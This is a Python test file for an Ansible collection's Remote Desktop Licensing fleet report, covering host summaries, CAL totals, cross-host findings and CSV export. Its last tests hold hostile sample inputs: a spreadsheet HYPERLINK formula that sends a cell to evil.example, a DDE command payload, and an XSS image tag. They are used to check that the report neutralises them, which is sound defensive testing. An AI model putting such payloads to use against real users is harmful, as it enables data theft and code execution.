"""The fleet report: licensing_info results of several hosts in, the report and its cross-host findings out."""

import csv
import datetime
import io
import json

import pytest

from ansible_collections.remote_desktop.licensing.plugins.plugin_utils import _report as report

NOW = datetime.datetime(2026, 3, 1, 8, 0, tzinfo=datetime.timezone.utc)
OS = {
    "2016": ("Microsoft Windows Server 2016 Standard", "10.0.14393"),
    "2019": ("Microsoft Windows Server 2019 Standard", "10.0.17763"),
    "2022": ("Microsoft Windows Server 2022 Standard", "10.0.20348"),
    "2025": ("Microsoft Windows Server 2025 Standard", "10.0.26100"),
}
BUILT_IN = {"key_pack_id": 2, "built_in": True, "unlimited": True, "key_pack_type": "built_in",
            "license_type": "built_in", "product_version": "built_in", "product_version_text": "Windows 2000 Server",
            "total": 4294967295, "issued": 0, "available": 4294967295, "expiration_date": "2035-12-31T23:00:00Z",
            "description": "A02-5.00-EX", "type_and_model": "Built-in TS Per Device CAL",
            "issued_licenses": {"active": 0, "temporary": 0, "revoked": 0, "other": 0}}


def pack(key_pack_id, license_type, version, total, issued=0, unlimited=False):
    return {"key_pack_id": key_pack_id, "built_in": False, "unlimited": unlimited, "key_pack_type": "volume",
            "key_pack_type_id": 2, "license_type": license_type, "product_version": version,
            "product_version_id": 7, "product_version_text": "Windows Server %s" % version,
            "total": total, "issued": issued, "available": max(0, total - issued),
            "expiration_date": "2038-01-19T03:14:07Z", "description": "C50-10.02-S",
            "type_and_model": "RDS Per User CAL", "issued_licenses": {"active": issued, "temporary": 0,
                                                                      "revoked": 0, "other": 0}}


def result(name, os="2022", domain="corp.example.com", ls=None, sh=None, diagnostics=None, problems=None):
    """A licensing_info result as registered (ls / sh: overrides of the sections, None for no role)."""
    caption, version = OS[os]
    license_server = {"installed": False, "key_packs": [], "totals": {}}
    if ls is not None:
        license_server = dict({
            "installed": True, "management_tools_installed": True,
            "service": {"state": "Running", "start_mode": "Auto"}, "activation_status": "activated",
            "license_server_id": None, "product_id": "00490-12345-67890-AA123", "scope": "domain",
            "published_in_ad": True, "in_license_servers_group": True,
            "contact": {"first_name": "Ada", "email": "rds-admins@example.com"},
            "key_packs": [BUILT_IN]}, **ls)
    session_host = {"installed": False}
    if sh is not None:
        session_host = dict({
            "installed": True, "licensing_mode": "per_user", "licensing_type": 4, "licensing_mode_source": "local",
            "license_servers": ["ls1.corp.example.com"], "license_servers_source": "local",
            "grace_period_days_left": 97, "connectivity": None,
            "policy": {"licensing_mode": None, "license_servers": None}}, **sh)
    return {
        "changed": False,
        "host": {"name": name.upper(), "os": caption, "os_version": version, "installation_type": "Server",
                 "part_of_domain": domain is not None, "domain": domain,
                 "workgroup": None if domain else "WORKGROUP"},
        "roles": {"license_server": ls is not None, "session_host": sh is not None},
        "features": {},
        "license_server": license_server,
        "session_host": session_host,
        "problems": problems or [],
        "diagnostics": diagnostics or [],
    }


def build(results):
    return report.build(results, now=NOW)


def host(fleet_report, name):
    return next(h for h in fleet_report["hosts"] if h["inventory_hostname"] == name)


def codes(entry, source=None):
    return [(f["severity"], f["code"]) for f in entry["diagnostics"] if source is None or f["source"] == source]


# --- per host ----------------------------------------------------------------------------------------

def test_host_entry_copies_what_a_person_needs():
    fleet = build({
        "ls1": result("ls1", ls={"key_packs": [BUILT_IN, pack(3, "per_user", "2022", 50, 31)]}),
        "sh1": result("sh1", os="2019", sh={"licensing_mode_source": "group_policy"},
                      diagnostics=[{"severity": "info", "code": "group_policy",
                                    "message": "Group Policy sets the licensing mode."}]),
    })
    ls1, sh1 = host(fleet, "ls1"), host(fleet, "sh1")
    assert ls1["name"] == "LS1" and ls1["fqdn"] == "ls1.corp.example.com" and ls1["status"] == "ok"
    assert ls1["roles"] == {"license_server": True, "session_host": False} and ls1["session_host"] is None
    assert ls1["license_server"]["activation_status"] == "activated"
    assert ls1["license_server"]["service_state"] == "Running"
    assert [p["key_pack_id"] for p in ls1["license_server"]["key_packs"]] == [2, 3]
    assert ls1["license_server"]["totals"] == {"per_user": {"2022": {"total": 50, "issued": 31, "available": 19}}}
    assert sh1["os"] == "Microsoft Windows Server 2019 Standard" and sh1["domain"] == "corp.example.com"
    assert sh1["session_host"]["licensing_mode"] == "per_user"
    assert sh1["session_host"]["licensing_mode_text"] == "Per User"
    assert sh1["session_host"]["licensing_mode_source"] == "group_policy"
    assert sh1["session_host"]["grace_period_days_left"] == 97
    assert sh1["diagnostics"] == [{"severity": "info", "code": "group_policy", "source": "host",
                                   "message": "Group Policy sets the licensing mode."}]
    assert sh1["counts"] == {"error": 0, "warning": 0, "info": 1} and sh1["severity"] == "info"
    assert ls1["severity"] == "ok"


def test_secrets_and_personal_data_never_reach_the_report():
    secret = "ABCDE12345FGHIJ67890KLMNO12345PQRST"
    leaky = result("ls1", ls={"license_server_id": secret, "key_packs": [dict(BUILT_IN, license_server_id=secret)]})
    leaky["license_server_id"] = secret
    leaky["session_host"]["secret"] = secret
    text = json.dumps(build({"ls1": leaky}))
    assert secret not in text
    assert "license_server_id" not in text
    assert "00490-12345" not in text and "rds-admins@example.com" not in text  # product ID, contact


def test_unreachable_failed_and_missing_results():
    fleet = build({
        "down": {"unreachable": True, "msg": "Failed to connect to the host via winrm: timed out", "changed": False},
        "broken": {"failed": True, "msg": "host_bridge: access denied"},
        "skipped": {"skipped": True},
        "odd": {"changed": False},
        "hidden": {"changed": False, "failed": False, "failed_when_result": False, "msg": "connection dropped"},
    })
    assert [(h["inventory_hostname"], h["status"]) for h in fleet["hosts"]] == [
        ("broken", "failed"), ("down", "unreachable"), ("hidden", "failed"), ("odd", "failed"), ("skipped", "not_run")]
    assert host(fleet, "hidden")["error"] == "connection dropped"
    assert host(fleet, "odd")["error"] == "The result is not a licensing_info result."
    down = host(fleet, "down")
    assert codes(down) == [("error", "host_unreachable")]
    # Ansible's own UNREACHABLE: its raw text in the collection's words, the text itself kept apart.
    assert down["error"].startswith("down did not answer on its WinRM port in time: the host may be down")
    assert down["diagnostics"][0]["message"] == "Could not read the licensing state: " + down["error"]
    assert down["error_detail"] == "Failed to connect to the host via winrm: timed out"
    assert codes(host(fleet, "broken")) == [("error", "host_not_read")]
    assert fleet["summary"]["hosts"] == 5 and fleet["summary"]["hosts_not_read"] == 5
    assert fleet["summary"]["errors"] == 5 and fleet["summary"]["hosts_with_errors"] == 5


def test_read_problems_become_warnings():
    fleet = build({"sh1": result("sh1", sh={}, problems=[{"part": "grace", "message": "0x80041001 WBEM_E_FAILED"}])})
    assert codes(host(fleet, "sh1"), "report") == [("warning", "read_problem")]
    assert host(fleet, "sh1")["diagnostics"][0]["message"] == "Could not read grace: 0x80041001 WBEM_E_FAILED"


def test_not_a_dict_is_refused():
    with pytest.raises(TypeError, match="licensing_report expects a dict"):
        report.build(["ls1"])


# --- fleet totals ------------------------------------------------------------------------------------

def test_cal_usage_sums_license_servers_and_leaves_out_built_in_and_unlimited_packs():
    fleet = build({
        "ls1": result("ls1", ls={"key_packs": [BUILT_IN, pack(3, "per_user", "2022", 50, 31),
                                               pack(4, "per_device", "2019", 25, 18)]}),
        "ls2": result("ls2", ls={"key_packs": [BUILT_IN, pack(3, "per_user", "2022", 20, 4),
                                               pack(4, "per_device", "2022", 10, 0),
                                               pack(5, "per_device", "2022", 4294967295, 7, unlimited=True)]}),
    })
    assert [(u["license_type"], u["product_version"], u["total"], u["issued"], u["available"],
             u["license_servers"]) for u in fleet["cal_usage"]] == [
        ("per_device", "2022", 10, 0, 10, ["ls2"]),
        ("per_device", "2019", 25, 18, 7, ["ls1"]),
        ("per_user", "2022", 70, 35, 35, ["ls1", "ls2"]),
    ]
    assert [u["issued_percent"] for u in fleet["cal_usage"]] == [0, 72, 50]
    assert fleet["totals"] == {"per_device": {"2022": {"total": 10, "issued": 0, "available": 10},
                                              "2019": {"total": 25, "issued": 18, "available": 7}},
                               "per_user": {"2022": {"total": 70, "issued": 35, "available": 35}}}
    assert fleet["cal_usage"][2]["license_type_text"] == "Per User"


def test_over_allocated_per_user_cals_cap_the_bar():
    fleet = build({"ls1": result("ls1", ls={"key_packs": [pack(3, "per_user", "2022", 10, 14)]})})
    (usage,) = fleet["cal_usage"]
    assert usage["issued_percent"] == 140 and usage["bar_percent"] == 100 and usage["over_allocated"]
    assert usage["available"] == 0


def test_summary_counts():
    fleet = build({
        "ls1": result("ls1", ls={"activation_status": "not_activated"},
                      diagnostics=[{"severity": "error", "code": "not_activated", "message": "Not activated."}]),
        "sh1": result("sh1", sh={"license_servers": [], "grace_period_days_left": 12},
                      diagnostics=[{"severity": "error", "code": "no_license_servers", "message": "None."},
                                   {"severity": "warning", "code": "grace_period_ending", "message": "12 days."}]),
        "sh2": result("sh2", sh={"license_servers": [], "grace_period_days_left": 0},
                      diagnostics=[{"severity": "error", "code": "grace_period_over", "message": "Over."}]),
        "down": {"unreachable": True, "msg": "timed out"},
    })
    assert fleet["summary"] == {
        "hosts": 4, "hosts_read": 3, "hosts_not_read": 1, "license_servers": 1, "license_servers_activated": 0,
        "session_hosts": 2, "errors": 4, "warnings": 1, "infos": 0, "grace_warnings": 2, "hosts_with_errors": 4,
        "hosts_with_warnings": 1, "grace_warning_days": 30}
    assert [f["severity"] for f in fleet["diagnostics"]] == ["error"] * 4 + ["warning"]
    assert fleet["diagnostics"][-1]["host"] == "sh1" and fleet["diagnostics"][-1]["host_name"] == "SH1"
    assert fleet["schema_version"] == 1 and fleet["generated_at"] == "2026-03-01T08:00:00Z"
    assert fleet["title"] == "Remote Desktop Licensing report"


# --- cross-host findings -----------------------------------------------------------------------------

def fleet_of(sh=None, ls=None, sh_os="2022", ls_os="2022", extra=None):
    results = {
        "ls1.corp.example.com": result("ls1", os=ls_os, ls=dict({"key_packs": [
            BUILT_IN, pack(3, "per_user", "2022", 50, 10), pack(4, "per_device", "2022", 20, 5)]}, **(ls or {}))),
        "sh1.corp.example.com": result("sh1", os=sh_os, sh=sh or {}),
    }
    results.update(extra or {})
    return build(results)


def fleet_codes(fleet_report, name="sh1.corp.example.com"):
    return codes(host(fleet_report, name), "fleet")


def test_healthy_fleet_has_no_cross_host_findings():
    assert fleet_codes(fleet_of()) == []
    assert fleet_codes(fleet_of(sh={"licensing_mode": "per_device"})) == []


@pytest.mark.parametrize("name", ["ls1", "LS1", "ls1.corp.example.com", "LS1.CORP.EXAMPLE.COM", " ls1 "])
def test_license_server_names_match_on_short_name_or_fqdn_in_any_case(name):
    fleet = fleet_of(sh={"license_servers": [name]}, ls={"activation_status": "not_activated"})
    assert fleet_codes(fleet) == [("error", "license_server_not_activated")]


def test_names_match_the_computer_name_when_the_inventory_uses_addresses():
    results = {"10.0.0.5": result("ls1", ls={"activation_status": "not_activated",
                                             "key_packs": [pack(3, "per_user", "2022", 5)]}),
               "10.0.0.6": result("sh1", sh={"license_servers": ["LS1"]})}
    fleet = build(results)
    assert fleet_codes(fleet, "10.0.0.6") == [("error", "license_server_not_activated")]
    # Named by its inventory name, with the name the session host uses for it.
    assert "License server 10.0.0.5 (configured as LS1) is not activated" in \
        host(fleet, "10.0.0.6")["diagnostics"][0]["message"]


def test_a_different_domain_or_an_ambiguous_short_name_does_not_match():
    assert fleet_codes(fleet_of(sh={"license_servers": ["ls1.other.example.org"]},
                                ls={"activation_status": "not_activated"})) == []
    not_activated = {"activation_status": "not_activated", "key_packs": [pack(3, "per_user", "2022", 5)]}
    twins = {"ls1.a.example.com": result("ls1", domain="a.example.com", ls=not_activated),
             "ls1.b.example.com": result("ls1", domain="b.example.com", ls=not_activated),
             "sh1": result("sh1", sh={"license_servers": ["ls1"]})}
    assert fleet_codes(build(twins), "sh1") == []
    twins["sh1"] = result("sh1", sh={"license_servers": ["LS1.b.example.com"]})
    assert fleet_codes(build(twins), "sh1") == [("error", "license_server_not_activated")]


def test_resolve():
    fleet = report.Fleet([report.host_entry("ls1.corp.example.com", result("ls1", ls={})),
                          report.host_entry("rdsh1", result("sh1", sh={})),
                          report.host_entry("192.0.2.10", {"unreachable": True, "msg": "down"})])
    assert fleet.resolve("LS1")["inventory_hostname"] == "ls1.corp.example.com"
    assert fleet.resolve("sh1.corp.example.com")["inventory_hostname"] == "rdsh1"
    assert fleet.resolve("RDSH1")["inventory_hostname"] == "rdsh1"
    assert fleet.resolve("192.0.2.10")["inventory_hostname"] == "192.0.2.10"
    assert fleet.resolve("192.0.2") is None and fleet.resolve("") is None and fleet.resolve("ls9") is None


def test_mode_without_cals_of_its_type():
    fleet = fleet_of(sh={"licensing_mode": "per_device"},
                     ls={"key_packs": [BUILT_IN, pack(3, "per_user", "2022", 50)]})
    assert fleet_codes(fleet) == [("error", "no_cals_for_mode")]
    message = host(fleet, "sh1.corp.example.com")["diagnostics"][0]["message"]
    assert message == ("The session host is in Per Device mode, but none of its license servers in this report "
                       "(ls1.corp.example.com) has Per Device CALs. Devices get temporary CALs, which expire after "
                       "90 days, and are "
                       "then refused.")


def test_per_user_without_per_user_cals_is_a_compliance_warning():
    # Per User CALs are not enforced ([WSD] rds-client-access-license.md): users are not refused.
    fleet = fleet_of(sh={"licensing_mode": "per_user"}, ls={"key_packs": [BUILT_IN, pack(4, "per_device", "2022", 20)]})
    assert fleet_codes(fleet) == [("warning", "no_cals_for_mode")]
    assert host(fleet, "sh1.corp.example.com")["diagnostics"][0]["message"].endswith(
        "has Per User CALs. Windows does not enforce Per User CALs: users are not refused, but they are not licensed.")


def test_the_built_in_and_unlimited_packs_are_not_cals_for_the_mode():
    fleet = fleet_of(sh={"licensing_mode": "per_device"},
                     ls={"key_packs": [BUILT_IN, pack(3, "per_device", "2022", 4294967295, unlimited=True)]})
    assert fleet_codes(fleet) == [("error", "no_cals_for_mode")]


def test_one_of_several_license_servers_with_cals_is_enough():
    ls2 = result("ls2", ls={"key_packs": [BUILT_IN, pack(3, "per_device", "2022", 5)]})
    fleet = fleet_of(sh={"licensing_mode": "per_device", "license_servers": ["ls1", "ls2"]},
                     ls={"key_packs": [BUILT_IN]}, extra={"ls2": ls2})
    assert fleet_codes(fleet) == []


def test_servers_outside_the_report_make_it_a_warning():
    fleet = fleet_of(sh={"licensing_mode": "per_device", "license_servers": ["ls1", "ls-branch.corp.example.com"]},
                     ls={"key_packs": [BUILT_IN]})
    assert fleet_codes(fleet) == [("warning", "no_cals_for_mode")]
    assert "1 configured license server is not in this report (ls-branch.corp.example.com)." in \
        host(fleet, "sh1.corp.example.com")["diagnostics"][0]["message"]


def test_no_finding_when_no_license_server_is_in_the_report():
    assert fleet_codes(fleet_of(sh={"license_servers": ["elsewhere"]}, ls={"key_packs": [BUILT_IN]})) == []
    assert fleet_codes(fleet_of(sh={"license_servers": []}, ls={"key_packs": [BUILT_IN]})) == []
    assert fleet_codes(fleet_of(sh={"licensing_mode": "not_configured"}, ls={"key_packs": [BUILT_IN]})) == []


def test_a_license_server_that_cannot_be_read_is_not_judged():
    fleet = build({"ls1": {"unreachable": True, "msg": "down"},
                   "sh1": result("sh1", sh={"license_servers": ["ls1"]})})
    assert fleet_codes(fleet, "sh1") == []


def test_a_configured_server_without_the_role():
    fleet = fleet_of(sh={"license_servers": ["ls1", "file1"]}, extra={"file1": result("file1")})
    assert fleet_codes(fleet) == [("error", "not_a_license_server")]
    assert host(fleet, "sh1.corp.example.com")["diagnostics"][0]["message"].startswith(
        "License server file1 is in this report but does not have the RD Licensing role service installed.")


def test_license_server_older_than_the_session_host():
    fleet = fleet_of(sh_os="2022", ls_os="2019", ls={"key_packs": [BUILT_IN, pack(3, "per_user", "2019", 50)]})
    assert fleet_codes(fleet) == [("error", "license_server_older"), ("warning", "cal_version_too_old")]
    older = host(fleet, "sh1.corp.example.com")["diagnostics"][0]["message"]
    assert older.startswith("License server ls1.corp.example.com runs Microsoft Windows Server "
                            "2019 Standard, 10.0.17763, older than this session host (Microsoft Windows Server 2022 "
                            "Standard, 10.0.20348)")
    assert fleet_codes(fleet_of(sh_os="2019", ls_os="2022")) == []
    fleet = fleet_of(sh_os="2022", ls_os="2019", sh={"license_servers": ["LS1.corp.example.com."]})
    assert host(fleet, "sh1.corp.example.com")["diagnostics"][0]["message"].startswith(
        "License server ls1.corp.example.com runs")
    fleet = fleet_of(sh_os="2022", ls_os="2019", sh={"license_servers": ["192.0.2.10"]},
                     extra={"192.0.2.10": result("ls2", os="2019", ls={})})
    assert host(fleet, "sh1.corp.example.com")["diagnostics"][0]["message"].startswith(
        "License server 192.0.2.10 runs")
    assert fleet_codes(fleet_of(sh_os="2022", ls_os="2022")) == []


def test_cal_version_too_old_for_the_session_host():
    fleet = fleet_of(sh_os="2025", ls_os="2025", sh={"licensing_mode": "per_device"})
    assert fleet_codes(fleet) == [("error", "cal_version_too_old")]
    assert host(fleet, "sh1.corp.example.com")["diagnostics"][0]["message"] == (
        "The session host runs Microsoft Windows Server 2025 Standard, 10.0.26100 and needs Windows Server 2025 "
        "Per Device CALs or later, but its license servers in this report (ls1.corp.example.com) have 2022 Per "
        "Device CALs only. "
        "Devices get temporary CALs, which expire after 90 days, and are then refused.")
    # Newer CALs serve older session hosts.
    assert fleet_codes(fleet_of(sh_os="2016", ls_os="2025", sh={"licensing_mode": "per_device"})) == []


def test_not_activated_and_no_cals_together():
    fleet = fleet_of(sh={"licensing_mode": "per_user", "license_servers": ["LS1"]},
                     ls={"activation_status": "not_activated", "key_packs": [BUILT_IN]})
    assert fleet_codes(fleet) == [("error", "license_server_not_activated"), ("warning", "no_cals_for_mode")]
    fleet = fleet_of(sh={"licensing_mode": "per_device", "license_servers": ["LS1"]},
                     ls={"activation_status": "not_activated", "key_packs": [BUILT_IN]})
    assert fleet_codes(fleet) == [("error", "license_server_not_activated"), ("error", "no_cals_for_mode")]
    assert host(fleet, "sh1.corp.example.com")["diagnostics"][0]["message"] == (
        "License server ls1.corp.example.com is not activated: it issues Per Device CALs only as temporary CALs, "
        "which expire after 90 days, and no CAL pack can be installed on it.")


def test_own_license_server_mismatch_is_not_repeated():
    both = result("rds1", ls={"key_packs": [BUILT_IN]}, sh={"licensing_mode": "per_user", "license_servers": ["rds1"]},
                  diagnostics=[{"severity": "error", "code": "mode_cal_mismatch", "message": "No Per User CALs."}])
    fleet = build({"rds1": both})
    assert codes(host(fleet, "rds1")) == [("error", "mode_cal_mismatch")]


def test_cross_host_findings_join_the_host_and_the_fleet_list():
    fleet = fleet_of(sh={"license_servers": ["LS1"]}, ls={"activation_status": "not_activated"},
                     extra={"sh2": result("sh2", sh={"license_servers": ["ls1"]})})
    assert [(f["host"], f["code"], f["source"]) for f in fleet["diagnostics"]] == [
        ("sh1.corp.example.com", "license_server_not_activated", "fleet"),
        ("sh2", "license_server_not_activated", "fleet")]
    assert fleet["summary"]["errors"] == 2


def test_os_versions():
    assert report.os_version("10.0.20348") == (10, 0, 20348)
    assert report.os_version("6.3.9600") == (6, 3, 9600)
    assert report.os_version(None) is None and report.os_version("ten") is None
    assert report.required_cal_version("10.0.26100") == "2025"
    assert report.required_cal_version("10.0.20348") == "2022"
    assert report.required_cal_version("10.0.19041") == "2019"  # a semi-annual build between 2019 and 2022
    assert report.required_cal_version("10.0.14393") == "2016"
    assert report.required_cal_version("6.3.9600") == "2012"
    assert report.required_cal_version("6.1.7601") == "2008R2"
    assert report.required_cal_version("5.2") is None and report.required_cal_version("") is None


# --- CSV ---------------------------------------------------------------------------------------------

def read_csv(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_one_row_per_host():
    fleet = fleet_of(sh={"license_servers": ["ls1", "ls2, \"quoted\""]},
                     ls={"key_packs": [BUILT_IN, pack(3, "per_user", "2022", 50, 31),
                                       pack(4, "per_device", "2019", 25, 18), pack(5, "per_device", "2016", 5, 1)]},
                     extra={"down": {"unreachable": True, "msg": "timed out, again"}})
    text = report.to_csv(fleet)
    assert text.splitlines()[0] == ",".join(report.HOST_COLUMNS)
    rows = {row["host"]: row for row in read_csv(text)}
    assert list(rows) == ["down", "ls1.corp.example.com", "sh1.corp.example.com"]
    ls1, sh1, down = rows["ls1.corp.example.com"], rows["sh1.corp.example.com"], rows["down"]
    assert ls1["license_server"] == "true" and ls1["session_host"] == "false"
    assert ls1["activation_status"] == "activated" and ls1["licensing_mode"] == ""
    assert (ls1["cals_per_device_total"], ls1["cals_per_device_issued"], ls1["cals_per_device_available"]) == \
        ("30", "19", "11")
    assert (ls1["cals_per_user_total"], ls1["cals_per_user_issued"], ls1["cals_per_user_available"]) == \
        ("50", "31", "19")
    assert sh1["cals_per_user_total"] == "" and sh1["licensing_mode"] == "per_user"
    assert sh1["license_servers"] == 'ls1;ls2, "quoted"' and sh1["grace_period_days_left"] == "97"
    assert sh1["os_version"] == "10.0.20348" and sh1["domain"] == "corp.example.com"
    assert down["status"] == "unreachable" and down["error"].startswith("down did not answer on its WinRM port")
    assert sh1["grace_period"] == "unchecked" and ls1["grace_period"] == "" and down["grace_period"] == ""
    assert down["errors"] == "1" and down["diagnostic_codes"] == "host_unreachable"


def test_csv_one_row_per_key_pack():
    fleet = fleet_of()
    rows = read_csv(report.to_csv(fleet, "key_packs"))
    assert [(r["host"], r["key_pack_id"], r["license_type"], r["built_in"]) for r in rows] == [
        ("ls1.corp.example.com", "2", "built_in", "true"), ("ls1.corp.example.com", "3", "per_user", "false"),
        ("ls1.corp.example.com", "4", "per_device", "false")]
    assert rows[1]["total"] == "50" and rows[1]["issued"] == "10" and rows[1]["available"] == "40"
    assert list(rows[0]) == list(report.KEY_PACK_COLUMNS)


def test_csv_table_must_be_known():
    with pytest.raises(ValueError, match="table must be"):
        report.to_csv(fleet_of(), "packs")


def test_report_is_json_serialisable():
    fleet = fleet_of(extra={"down": {"unreachable": True, "msg": "x"}})
    assert json.loads(json.dumps(fleet)) == fleet


def test_a_grace_period_ended_by_a_permanent_cal_is_copied_and_shown():
    """hh553157: LicensingGracePeriodEnded means the grace period is over, whatever the days left say."""
    import pathlib

    import jinja2
    ended = [{"severity": "error", "code": "grace_period_over", "message": "over"}]
    fleet = build({"sh1": result("sh1", sh={"grace_period_days_left": 97, "grace_period_ended": True},
                                 diagnostics=ended),
                   "sh2": result("sh2", sh={"grace_period_days_left": 97, "grace_period_ended": False})})
    assert [h["session_host"]["grace_period_ended"] for h in fleet["hosts"]] == [True, False]
    template = pathlib.Path(__file__).resolve().parents[4] / "roles" / "report" / "templates"
    page = jinja2.Environment(loader=jinja2.FileSystemLoader(str(template))).get_template(
        "report.html.j2").render(report_fleet=fleet)
    assert [h["session_host"]["grace_period"] for h in fleet["hosts"]] == ["ended", "unchecked"]
    assert ('<span class="grace bad" title="a permanent CAL was issued (LicensingGracePeriodEnded): from then on the '
            'host needs a license server">over (CAL issued)') in page
    assert '<span class="grace ">97 days left</span>' in page


def test_csv_neutralises_formulas_from_hosts():
    """Finding 8 of issue 9: a host's license server list became a =HYPERLINK(...) formula in a spreadsheet.
    Text cells starting with = + - @, tab or CR get a leading quote (OWASP, CSV Injection)."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    fleet = fleet_of(sh={"license_servers": [evil], "grace_period_days_left": -3},
                     ls={"key_packs": [BUILT_IN, dict(pack(3, "per_user", "2022", 50), description="+SUM(1)")]},
                     extra={"odd": {"failed": True, "msg": "@cmd|' /C calc'!A0"}})
    hosts = {row["host"]: row for row in read_csv(report.to_csv(fleet))}
    assert hosts["sh1.corp.example.com"]["license_servers"] == "'" + evil
    assert hosts["sh1.corp.example.com"]["grace_period_days_left"] == "-3"  # a number, not text
    assert hosts["odd"]["error"] == "'@cmd|' /C calc'!A0"
    packs = read_csv(report.to_csv(fleet, "key_packs"))
    assert [p["description"] for p in packs if p["key_pack_id"] == "3"] == ["'+SUM(1)"]
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert report._cell(start + "1") == "'" + start + "1"
    assert report._cell("ls1.corp.example.com") == "ls1.corp.example.com"


def test_values_of_the_wrong_type_from_a_host_are_not_trusted():
    """A host's result is data, not markup: counts must be numbers, names text, or they are unknown."""
    evil = "<img src=x onerror=alert(1)>"
    fleet = fleet_of(sh={"grace_period_days_left": evil, "license_servers": ["ls1", {"x": 1}]},
                     ls={"key_packs": [BUILT_IN, dict(pack(3, "per_user", "2022", 50), key_pack_id=evil,
                                                      total=evil, issued=True, type_and_model=["list"])]})
    sh1 = host(fleet, "sh1.corp.example.com")["session_host"]
    assert sh1["grace_period_days_left"] is None and sh1["license_servers"] == ["ls1"]
    pack3 = host(fleet, "ls1.corp.example.com")["license_server"]["key_packs"][1]
    assert (pack3["key_pack_id"], pack3["total"], pack3["issued"], pack3["type_and_model"]) == (None, None, None, None)


def test_a_license_server_enforcing_its_security_group_is_a_warning_for_its_session_hosts():
    fleet = fleet_of(ls={"security_group_policy": True, "registered_scp": True})
    assert fleet_codes(fleet) == [("warning", "license_server_security_group")]
    assert host(fleet, "ls1.corp.example.com")["license_server"]["security_group_policy"] is True
    # The session host's own discovery answered for that server: its findings say it, not the fleet.
    for issuing in (True, False):
        told = [{"name": "LS1", "available": True, "issuing_cals": issuing, "admin_on_license_server": None}]
        fleet = fleet_of(ls={"security_group_policy": True}, sh={"discovered_license_servers": told})
        assert fleet_codes(fleet) == []
        assert host(fleet, "sh1.corp.example.com")["session_host"]["discovered_license_servers"] == told
